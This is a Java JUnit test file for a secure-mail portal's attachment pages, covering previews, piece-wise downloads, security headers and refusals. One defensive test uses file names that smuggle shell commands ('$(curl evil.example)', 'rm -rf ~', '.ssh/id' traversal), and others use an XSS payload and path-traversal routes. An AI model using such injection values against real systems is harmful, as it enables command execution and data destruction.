package org.sealpost.portal.pages;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import java.net.URI;
import java.util.Base64;
import java.util.Optional;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.sealpost.branding.BrandingTemplate;
import org.sealpost.mail.EmailAddress;
import org.sealpost.portal.DownloadResult;
import org.sealpost.portal.PreviewResult;
import org.sealpost.portal.Refusal;
import org.sealpost.protection.AttachmentAccess;
import org.sealpost.protection.UsageRight;
import org.sealpost.protection.UsageRights;
import org.sealpost.reading.RenderedMessage;
import org.sealpost.reading.preview.Preview;
import org.sealpost.withdrawal.Withdrawal;

/// Attachments in the list, in previews, and in pieces (threats 26, 30, 33).
class AttachmentPagesTest {
  private static final String MESSAGE = "/m/" + ScriptedDoor.VALID;
  private static final String FILE = MESSAGE + "/attachments/3";
  private static final String HOSTILE = "</title><script>alert('x')</script>\" on=\"y";
  private static final String NAME = "[A-Za-z0-9_.][A-Za-z0-9._-]*";
  private static final EmailAddress READER = EmailAddress.of("bob@partner.example");
  private static final String SUM = "0".repeat(64);
  private static final Look LOOK =
      Look.of(
          Words.english(),
          Visitor.organization(URI.create(Visitor.ORIGIN)),
          BrandingTemplate.factoryDefault(),
          new Assets(new Visitor().brandingTemplates()));

  private final Visitor visitor = new Visitor().signedIn();
  private final ScriptedDoor door = visitor.door;

  @ParameterizedTest
  @CsvSource({
    "DOWNLOAD, true, true, true",
    "DOWNLOAD, false, false, true",
    "VIEW_ONLY, true, true, false",
    "VIEW_ONLY, false, false, false"
  })
  void listShouldOfferWhatCanBeDone(
      AttachmentAccess access, boolean showable, boolean view, boolean download) {
    door.access = access;
    door.message = ScriptedDoor.message("s", "", attachment("plan.pdf", false, showable));

    String page = Visitor.text(visitor.get(MESSAGE));

    assertThat(page).contains("plan.pdf", "PDF document, 482 kB");
    assertThat(page.contains("href=\"" + FILE + "/view\" aria-label=\"View plan.pdf\""))
        .isEqualTo(view);
    assertThat(page.contains("href=\"" + FILE + "\" aria-label=\"Download plan.pdf\""))
        .isEqualTo(download);
    assertThat(page.contains("not to be downloaded"))
        .isEqualTo(access == AttachmentAccess.VIEW_ONLY);
  }

  @Test
  void riskyFileShouldComeWithAWarningInWords() {
    door.message =
        ScriptedDoor.message(
            "s", "", attachment("a.exe", true, false), attachment("b", false, true));

    assertThat(Visitor.text(visitor.get(MESSAGE)))
        .containsOnlyOnce("Files of this kind can run programs and do harm.");
  }

  @Test
  void fileThatCannotRunHereShouldNotBeWarnedOf() {
    door.access = AttachmentAccess.VIEW_ONLY;
    door.message = ScriptedDoor.message("s", "", attachment("a.docm", true, true));

    assertThat(Visitor.text(visitor.get(MESSAGE))).doesNotContain("can run programs");
  }

  @Test
  void previewShouldShowPagesAsPictures() {
    shown(new Preview.Pages(3, 3), "", true);

    Response answer = visitor.get(FILE + "/view");

    assertThat(answer.status()).isEqualTo(200);
    assertThat(Visitor.text(answer))
        .contains(
            "<img src=\"" + FILE + "/pages/0\" alt=\"plan.pdf, page 1 of 3\">",
            "<img src=\"" + FILE + "/pages/2\" loading=\"lazy\" alt=\"plan.pdf, page 3 of 3\">",
            "Page 3 of 3",
            "href=\"" + MESSAGE + "\"",
            "href=\"" + FILE + "\"")
        .doesNotContain("/pages/3", "These are the first", "stands across it", "not-for-paper");
  }

  @ParameterizedTest
  @CsvSource({"true, 'To see the rest, download the file.'", "false, of 212 pages.</strong>"})
  void previewShouldSayThatItIsNotAll(boolean mayDownload, String end) {
    shown(new Preview.Pages(50, 212), "", mayDownload);

    assertThat(Visitor.text(visitor.get(FILE + "/view")))
        .contains("These are the first 50 of 212 pages.", end);
  }

  @Test
  void restrictedPreviewShouldSayWhoseAddressStandsAcrossIt() {
    shown(new Preview.Pages(1, 1), "bob@partner.example", false);

    assertThat(Visitor.text(visitor.get(FILE + "/view")))
        .contains(
            "<bdi>bob@partner.example</bdi>", "stands across it", "not-for-paper", "View only")
        .doesNotContain("href=\"" + FILE + "\"");
  }

  @Test
  void pageShouldBeAPictureAndNothingElse() {
    door.pages.put(0, new PreviewResult.Page("image/png", new byte[] {1, 2}));

    Response answer = visitor.get(FILE + "/pages/0");

    assertThat(answer.status()).isEqualTo(200);
    assertThat(answer.body()).containsExactly(1, 2);
    assertThat(answer.headers())
        .containsEntry("content-type", "image/png")
        .containsEntry("cache-control", "no-store")
        .containsEntry("cross-origin-resource-policy", "same-origin")
        .containsEntry("x-content-type-options", "nosniff");
    assertThat(answer.headers().get("content-security-policy")).contains("sandbox;");
  }

  @ParameterizedTest
  @ValueSource(strings = {"image/svg+xml", "text/html", "application/pdf", ""})
  void pageThatIsNoPictureShouldNotBeShown(String mediaType) {
    door.pages.put(0, new PreviewResult.Page(mediaType, "<script>".getBytes(UTF_8)));

    assertThat(visitor.get(FILE + "/pages/0").status()).isEqualTo(404);
  }

  @Test
  void textPreviewShouldStandInAFrameUnderThePolicyOfBodies() {
    shown(new Preview.Html("<p>a,b</p>", false), "", true);

    String page = Visitor.text(visitor.get(FILE + "/view"));
    Response text = visitor.get(FILE + "/text");

    assertThat(page)
        .contains("src=\"" + FILE + "/text\" sandbox=\"allow-same-origin", "This is the beginning")
        .doesNotContain("a,b");
    assertThat(Visitor.text(text)).contains("<p>a,b</p>", "background-image:none");
    assertThat(text.headers().get("content-security-policy"))
        .startsWith("default-src 'none'; img-src data:; style-src 'unsafe-inline'; sandbox ")
        .doesNotContain("allow-scripts");
  }

  @Test
  void textPreviewShouldCarryTheReadersAddressUnderRestrictedRights() {
    shown(new Preview.Html("<p>a</p>", true), "\"<x>\"@b.example", false);

    String text = Visitor.text(visitor.get(FILE + "/text"));
    String picture =
        text.replaceFirst("(?s).*url\\(data:image/svg\\+xml;base64,([A-Za-z0-9+/=]+)\\).*", "$1");

    assertThat(new String(Base64.getDecoder().decode(picture), UTF_8))
        .contains("&#34;&#60;x&#62;&#34;&#64;b&#46;example</text>");
  }

  @ParameterizedTest
  @MethodSource
  void fileThatCannotBeShownShouldSayWhatToDo(
      Preview preview, boolean mayDownload, String reason, String next) {
    shown(preview, "", mayDownload);

    Response page = visitor.get(FILE + "/view");

    assertThat(page.status()).isEqualTo(200);
    assertThat(Visitor.text(page))
        .contains("This file cannot be shown here", reason, next)
        .doesNotContain("<img src=\"/m", "<iframe");
    assertThat(visitor.get(FILE + "/text").status()).isEqualTo(404);
  }

  static Stream<Arguments> fileThatCannotBeShownShouldSayWhatToDo() {
    return Stream.of(
        Arguments.of(new Preview.Unknown(), true, "There is no preview", "You can download it"),
        Arguments.of(new Preview.Unknown(), false, "There is no preview", "in another form"),
        Arguments.of(new Preview.Locked(), true, "a password of its own", "with the password"),
        Arguments.of(new Preview.Locked(), false, "a password of its own", "without a password"),
        Arguments.of(new Preview.TooMuch(), true, "damaged, or too large", "You can download it"),
        Arguments.of(new Preview.TooMuch(), false, "damaged, or too large", "in another form"));
  }

  @Test
  void largeFileShouldComeInPieces() {
    inPieces("Q3 report.zip", 3);

    Response page = visitor.get(FILE);

    assertThat(page.status()).isEqualTo(200);
    assertThat(Visitor.text(page))
        .contains(
            "data-base=\"" + FILE + "/pieces/\"",
            "data-name=\"Q3 report.zip\"",
            "data-pieces=\"3\"",
            "data-sha256=\"" + SUM + "\"",
            "12.0 MB, in 3 pieces",
            "href=\"" + FILE + "/pieces/2\">Piece 3 of 3</a>",
            "copy /b Q3_report.zip.001+Q3_report.zip.002+Q3_report.zip.003 Q3_report.zip",
            "cat Q3_report.zip.001 Q3_report.zip.002 Q3_report.zip.003 &gt; Q3_report.zip");
    assertThat(page.headers().get("content-security-policy"))
        .endsWith("; connect-src 'self'")
        .contains("default-src 'none'", "script-src 'self'");
  }

  /// Which of several mailboxes is signed in, and how to leave, as on the message's page.
  @ParameterizedTest
  @ValueSource(strings = {"", "/view"})
  void pagesOfFilesShouldSayWhoIsSignedIn(String route) {
    inPieces("Q3 report.zip", 3);
    shown(new Preview.Pages(1, 1), "", true);

    assertThat(Visitor.text(visitor.get(FILE + route)))
        .contains(
            "Signed in as",
            "<a href=\"/sessions\"",
            "<bdi>bob@partner.example</bdi>",
            "<form method=\"post\" action=\"/sign-out\">",
            "name=\"csrf\" value=\"" + Csrf.of(ScriptedDoor.SESSION) + "\"");
  }

  @Test
  void largeMessageShouldComeInPieces() {
    door.rights = UsageRights.of(UsageRight.VIEW, UsageRight.EXPORT);
    door.export = inPieces("Draft settlement.eml", 12_000_000L, 2);

    Response page = visitor.get(MESSAGE + "/message.eml");
    Response piece = visitor.get(MESSAGE + "/message.eml/pieces/1");

    assertThat(page.status()).isEqualTo(200);
    assertThat(Visitor.text(page))
        .contains(
            "data-base=\"" + MESSAGE + "/message.eml/pieces/\"",
            "data-name=\"Draft settlement.eml\"",
            "12.0 MB, in 2 pieces",
            "href=\"" + MESSAGE + "/message.eml/pieces/1\">Piece 2 of 2</a>",
            "cat Draft_settlement.eml.001 Draft_settlement.eml.002 &gt; Draft_settlement.eml");
    assertThat(page.headers().get("content-security-policy")).endsWith("; connect-src 'self'");
    assertThat(piece.body()).isEqualTo(new byte[] {1});
    assertThat(piece.headers())
        .containsEntry("content-type", "application/octet-stream")
        .containsEntry("cache-control", "no-store, no-transform")
        .containsEntry(
            "content-disposition",
            "attachment; filename=\"Draft_settlement.eml.002\";"
                + " filename*=UTF-8''Draft_settlement.eml.002");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"/pieces/2", "/pieces", "/pieces/", "/pieces/x", "/other/0", "/", "/pieces/0/1"})
  void messageShouldHaveNoOtherPieces(String path) {
    door.rights = UsageRights.of(UsageRight.VIEW, UsageRight.EXPORT);
    door.export = inPieces("Draft settlement.eml", 12_000_000L, 2);

    Response answer = visitor.get(MESSAGE + "/message.eml" + path);

    assertThat(answer.status()).isEqualTo(404);
    assertThat(Visitor.text(answer)).contains("There is no such page");
  }

  @ParameterizedTest
  @ValueSource(strings = {"", "/pieces/0"})
  void messageThatMayNotBeTakenAlongShouldNotComeInPiecesEither(String route) {
    door.export = inPieces("Draft settlement.eml", 12_000_000L, 2);

    Response answer = visitor.get(MESSAGE + "/message.eml" + route);
    Response stranger = new Visitor().get(MESSAGE + "/message.eml" + route);

    assertThat(answer.status()).isEqualTo(403);
    assertThat(stranger.status()).isEqualTo(403);
    assertThat(Visitor.text(answer) + Visitor.text(stranger)).doesNotContain("Draft settlement");
    assertThat(answer.headers()).doesNotContainKey("content-disposition");
  }

  @Test
  void onlyThePageThatFetchesShouldBeAllowedTo() {
    shown(new Preview.Pages(1, 1), "", true);

    assertThat(
            Stream.of(MESSAGE, MESSAGE + "/text", FILE + "/view", "/")
                .map(path -> visitor.get(path).headers().get("content-security-policy")))
        .allSatisfy(policy -> assertThat(policy).doesNotContain("connect-src"));
  }

  @Test
  void pieceShouldBeAFileThatBearsItsNumber() {
    inPieces("Q3 report.zip", 3);

    Response answer = visitor.get(FILE + "/pieces/1");

    assertThat(answer.body()).isEqualTo(new byte[] {1});
    assertThat(answer.headers())
        .containsEntry("content-type", "application/octet-stream")
        .containsEntry("cache-control", "no-store, no-transform")
        .containsEntry("x-content-type-options", "nosniff")
        .containsEntry(
            "content-disposition",
            "attachment; filename=\"Q3_report.zip.002\"; filename*=UTF-8''Q3_report.zip.002");
  }

  /// Threat 30: the commands are copied into shells, and whoever sent the file has chosen its name.
  @ParameterizedTest
  @ValueSource(
      strings = {
        "$(curl evil.example).pdf",
        "`id`.pdf",
        "a;rm -rf ~;.pdf",
        "a&calc.exe&.pdf",
        "%COMSPEC%.pdf",
        "a'b\"c.pdf",
        "-rf.pdf",
        "a\nb|c>d<e.pdf",
        "photo\u202efdp.exe",
        "../../.ssh/id",
        "Übersicht €.pdf",
        "^(1)!.pdf"
      })
  void commandsShouldHoldNothingThatAShellTakesForMore(String name) {
    PiecesView view = new PiecesView(LOOK, "/m/x", FILE, inPieces(name, 12_000_000L, 2), "");

    assertThat(view.unixCommand()).matches("cat NAME NAME > NAME".replace("NAME", NAME));
    assertThat(view.windowsCommand()).matches("copy /b NAME[+]NAME NAME".replace("NAME", NAME));
    assertThat(AttachmentHeader.ofPiece(name + ".001"))
        .contains("filename=\"" + view.pieceName(0) + "\"");
  }

  @Test
  void longNameShouldKeepThePiecesNumber() {
    String name = "a".repeat(150) + ".zip";
    PiecesView view = new PiecesView(LOOK, "/m/x", FILE, inPieces(name, 1L, 2), "");

    assertThat(view.pieceName(1)).endsWith(".zip.002");
    assertThat(AttachmentHeader.ofPiece(name + ".002"))
        .contains("filename=\"" + view.pieceName(1) + "\"");
  }

  @ParameterizedTest
  @ValueSource(strings = {"/view", "/pages/0", "/text", "/pieces/0", ""})
  void everyRouteShouldRefuseWhatIsNotThere(String route) {
    Response answer = visitor.get(FILE + route);

    assertThat(answer.status()).isEqualTo(404);
    assertThat(Visitor.text(answer)).contains("This message has no such attachment");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "/3/view/",
        "/3/pages",
        "/3/pages/",
        "/3/pages/x",
        "/3/pages/-1",
        "/3/pages/1/2",
        "/3/pages/../view",
        "/3/pieces/99999999999",
        "/3/view/0",
        "/x/view",
        "/../3/view",
        "/3/other",
        "/"
      })
  void otherPathsShouldNotBeFound(String path) {
    Response answer = visitor.get(MESSAGE + "/attachments" + path);

    assertThat(answer.status()).isEqualTo(404);
    assertThat(Visitor.text(answer)).contains("There is no such page");
  }

  @ParameterizedTest
  @MethodSource
  void everyRouteShouldSayWhyItShowsNothing(
      String route, Refusal refusal, int status, String words) {
    inPieces("Q3 report.zip", 3);
    shown(new Preview.Html("<p>secret</p>", true), "", true);
    door.refusal = Optional.of(refusal);

    Response answer = visitor.get(FILE + route);

    assertThat(answer.status()).isEqualTo(status);
    assertThat(Visitor.text(answer)).contains(words).doesNotContain("secret", "Q3", "plan");
    assertThat(answer.headers()).doesNotContainKey("content-disposition");
  }

  static Stream<Arguments> everyRouteShouldSayWhyItShowsNothing() {
    return Stream.of("", "/view", "/pages/0", "/text", "/pieces/0")
        .flatMap(
            route ->
                Stream.of(
                    Arguments.of(route, new Refusal.SignInNeeded(), 403, "Your session has ended."),
                    Arguments.of(route, new Refusal.SignInAgain(), 403, "Please sign in again"),
                    Arguments.of(
                        route,
                        new Refusal.OtherMailbox("carol@x.example", "b***@y.example"),
                        403,
                        "This message is for somebody else"),
                    Arguments.of(
                        route,
                        new Refusal.Withdrawn(new Withdrawal.Revoked(ScriptedDoor.SINCE)),
                        410,
                        "The sender has withdrawn this message"),
                    Arguments.of(
                        route,
                        new Refusal.Withdrawn(new Withdrawal.Expired(ScriptedDoor.SINCE)),
                        410,
                        "This message has expired"),
                    Arguments.of(
                        route,
                        new Refusal.SealedBytesNeeded(),
                        409,
                        "Please open message.html in the e-mail once more"),
                    Arguments.of(
                        route,
                        new Refusal.Unopenable(),
                        410,
                        "This message cannot be opened any more"),
                    Arguments.of(
                        route,
                        new Refusal.NotForMachines(),
                        403,
                        "This page is opened by people only")));
  }

  @ParameterizedTest
  @ValueSource(strings = {"", "/pieces/0"})
  void fileThatMayOnlyBeViewedShouldNotBeHandedOut(String route) {
    inPieces("Q3 report.zip", 3);
    door.access = AttachmentAccess.VIEW_ONLY;

    Response answer = visitor.get(FILE + route);

    assertThat(answer.status()).isEqualTo(403);
    assertThat(Visitor.text(answer)).contains("This attachment cannot be downloaded", "view-only");
  }

  @ParameterizedTest
  @ValueSource(strings = {"", "/view", "/pages/0", "/text", "/pieces/0"})
  void everyRouteShouldShowNothingWithoutASession(String route) {
    Visitor stranger = new Visitor();

    Response answer = stranger.get(FILE + route);

    assertThat(answer.status()).isEqualTo(403);
    assertThat(Visitor.text(answer)).contains("Please sign in again");
  }

  @Test
  void pagesShouldEscapeTheNamesThatStrangersChose() {
    RenderedMessage.Attachment hostile =
        new RenderedMessage.Attachment(3, HOSTILE, HOSTILE, 1, true, true);
    door.previews.put(
        3,
        new PreviewResult.Shown(
            READER, hostile, new Preview.Pages(2, 9), HOSTILE, true, door.branding));
    inPieces(HOSTILE, 2);

    String pages = Visitor.text(visitor.get(FILE + "/view")) + Visitor.text(visitor.get(FILE));

    assertThat(pages)
        .contains("&lt;script>alert(&#39;x&#39;)&lt;/script>&#34; on=&#34;y")
        .doesNotContain("<script>", "</title><");
  }

  private static RenderedMessage.Attachment attachment(
      String name, boolean risky, boolean showable) {
    return new RenderedMessage.Attachment(3, name, "application/pdf", 482_113, risky, showable);
  }

  private void shown(Preview preview, String watermark, boolean mayDownload) {
    door.previews.put(
        3,
        new PreviewResult.Shown(
            READER,
            attachment("plan.pdf", false, true),
            preview,
            watermark,
            mayDownload,
            door.branding));
  }

  private void inPieces(String name, int pieces) {
    door.large.put(3, inPieces(name, 12_000_000L, pieces));
    door.pieces.put(
        3, IntStream.range(0, pieces).mapToObj(piece -> new byte[] {(byte) piece}).toList());
  }

  private static DownloadResult.InPieces inPieces(String name, long sizeBytes, int pieces) {
    return new DownloadResult.InPieces(READER, name, sizeBytes, pieces, SUM);
  }
}
